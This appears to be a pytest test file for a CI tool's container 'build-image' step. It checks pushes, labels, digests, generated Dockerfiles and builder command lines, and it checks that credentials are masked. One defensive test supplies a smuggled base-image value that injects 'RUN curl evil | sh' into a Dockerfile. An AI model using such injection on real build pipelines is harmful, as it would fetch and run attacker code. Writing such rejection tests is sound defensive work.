"""build-image with real buildah (chroot isolation, vfs) pushing to Debian's docker-registry."""
from __future__ import annotations

import hashlib
import json
import subprocess
from pathlib import Path

import pytest

from tests.tools import require

pytestmark = pytest.mark.heavy
SHA = "0123456789abcdef0123456789abcdef01234567"


def skopeo_inspect(ref: str, *extra: str) -> dict:
    exe = require("skopeo", "apt-get install skopeo")
    out = subprocess.run([exe, "inspect", "--tls-verify=false", *extra, f"docker://{ref}"],
                         capture_output=True, text=True, check=True).stdout
    return json.loads(out)


def read_env(path: Path) -> dict[str, str]:
    return dict(line.split("=", 1) for line in path.read_text().splitlines())


@pytest.fixture
def app_repo(tmp_path: Path) -> Path:
    repo = tmp_path / "app"
    (repo / ".ci-gen" / "out").mkdir(parents=True)
    (repo / "serve.txt").write_text("a tiny app\n")
    (repo / ".ci-gen" / "out" / "model.onnx").write_bytes(b"tiny model bytes")
    return repo


def build(run_step, repo: Path, registry: str, buildah_env: dict[str, str], **extra: str):
    env = {"CI_GEN_IMAGE_NAME": f"{registry}/ml/fraud-detector", "CI_GEN_GIT_SHA": SHA,
           "CI_GEN_REGISTRY_TLS_VERIFY": "0", "CI_GEN_VERSION": "0.1.0",
           "CI_GEN_MODEL_FILE": ".ci-gen/out/model.onnx", "CI_GEN_SOURCE_URL": "https://tok:x@git.example/ml/app.git",
           **buildah_env, **extra}
    return run_step("build-image", cwd=repo, timeout=300, **env)


def test_build_push_labels_and_digest(app_repo: Path, registry: str, buildah_env, run_step) -> None:
    (app_repo / "Dockerfile").write_text("FROM scratch\nARG GREETING\nCOPY serve.txt /serve.txt\n")
    result = build(run_step, app_repo, registry, buildah_env, CI_GEN_DOCKERFILE="Dockerfile",
                   CI_GEN_BUILD_ARGS='{"GREETING": "hello world"}')
    assert result.returncode == 0, result.stdout + result.stderr
    env = read_env(app_repo / ".ci-gen/out/image.env")
    digest = env["CI_GEN_IMAGE_DIGEST"]
    assert env["CI_GEN_IMAGE_REF"] == f"{registry}/ml/fraud-detector@{digest}"
    info = skopeo_inspect(f"{registry}/ml/fraud-detector:{SHA}")
    assert info["Digest"] == digest
    # the manifest the deploy record sizes the image from: the very bytes the digest names
    raw = (app_repo / ".ci-gen/out/image-manifest.json").read_bytes()
    assert "sha256:" + hashlib.sha256(raw).hexdigest() == digest
    assert json.loads(raw)["layers"] and all(layer["size"] > 0 for layer in json.loads(raw)["layers"])
    labels = info["Labels"]

    assert labels["org.opencontainers.image.revision"] == SHA
    assert labels["org.opencontainers.image.source"] == "https://git.example/ml/app.git"
    assert labels["ci-gen.model.sha256"] == hashlib.sha256(b"tiny model bytes").hexdigest()
    assert labels["ci-gen.version"] == "0.1.0"
    assert labels["org.opencontainers.image.created"].endswith("Z")
    # safe to re-run: the same build again pushes and records a digest again
    again = build(run_step, app_repo, registry, buildah_env, CI_GEN_DOCKERFILE="Dockerfile")
    assert again.returncode == 0, again.stderr


def test_generated_dockerfile(app_repo: Path, registry: str, buildah_env, run_step) -> None:
    result = build(run_step, app_repo, registry, buildah_env, CI_GEN_IMAGE_BASE="scratch")
    assert result.returncode == 0, result.stdout + result.stderr
    dockerfile = (app_repo / ".ci-gen/out/Dockerfile").read_text()
    assert "FROM scratch" in dockerfile and "USER 10001:10001" in dockerfile and "HEALTHCHECK" in dockerfile
    config = skopeo_inspect(f"{registry}/ml/fraud-detector:{SHA}", "--config", "--raw")["config"]
    assert config["User"] == "10001:10001"
    assert {"CI_GEN_MODEL_PATH=/models/model.onnx", "PORT=8080"} <= set(config["Env"])
    assert "http://127.0.0.1:8080/healthz" in " ".join(config["Healthcheck"]["Test"])


def test_failed_push_is_one_line(app_repo: Path, buildah_env, run_step) -> None:
    from tests.steps.conftest import free_port

    (app_repo / "Dockerfile").write_text("FROM scratch\nCOPY serve.txt /serve.txt\n")
    result = build(run_step, app_repo, f"127.0.0.1:{free_port()}", buildah_env, CI_GEN_DOCKERFILE="Dockerfile")
    assert result.returncode != 0
    assert result.stderr.strip().splitlines()[-1].startswith("ci-gen build-image: error: buildah failed with exit code")
    assert not (app_repo / ".ci-gen/out/image.env").exists()


def test_bad_base_cannot_inject_instructions(app_repo: Path, run_step) -> None:
    result = run_step("build-image", "--dry-run", cwd=app_repo, CI_GEN_IMAGE_NAME="reg/app", CI_GEN_GIT_SHA=SHA,
                      CI_GEN_IMAGE_BASE="ubuntu\nRUN curl evil | sh")
    assert result.returncode == 2 and "CI_GEN_IMAGE_BASE is not an image reference" in result.stderr


def test_tagged_name_is_refused(run_step) -> None:
    result = run_step("build-image", "--dry-run", CI_GEN_IMAGE_NAME="reg:5000/app:latest", CI_GEN_GIT_SHA=SHA)
    assert result.returncode == 2 and "must have no tag" in result.stderr


@pytest.mark.parametrize("builder, expected", [
    ("docker", ["+ docker build -f Dockerfile -t reg.example.com/ml/app:" + SHA,
                "--cache-from reg.example.com/cache/app:latest --build-arg BUILDKIT_INLINE_CACHE=1",
                "+ docker push reg.example.com/ml/app:" + SHA]),
    ("kaniko", ["+ /kaniko/executor --context . --dockerfile Dockerfile --destination reg.example.com/ml/app:" + SHA,
                "--digest-file .ci-gen/out/image.digest", "--cache=true --cache-repo=reg.example.com/cache/app",
                "+ write /kaniko/.docker/config.json (registry auth: ***)"]),
    ("buildah", ["--layers --cache-from reg.example.com/cache/app --cache-to reg.example.com/cache/app",
                 "+ printf %s *** | buildah login --tls-verify=true -u robot --password-stdin reg.example.com"]),
])
def test_builder_command_lines(builder: str, expected: list[str], run_step) -> None:
    result = run_step("build-image", "--dry-run", CI_GEN_IMAGE_NAME="reg.example.com/ml/app", CI_GEN_GIT_SHA=SHA,
                      CI_GEN_BUILDER=builder, CI_GEN_DOCKERFILE="Dockerfile",
                      CI_GEN_CACHE_REPO="reg.example.com/cache/app",
                      CI_GEN_REGISTRY_USER="robot", CI_GEN_REGISTRY_PASSWORD="pa55-w0rd")
    assert result.returncode == 0, result.stderr
    for fragment in expected:
        assert fragment in result.stdout
    assert "pa55-w0rd" not in result.stdout
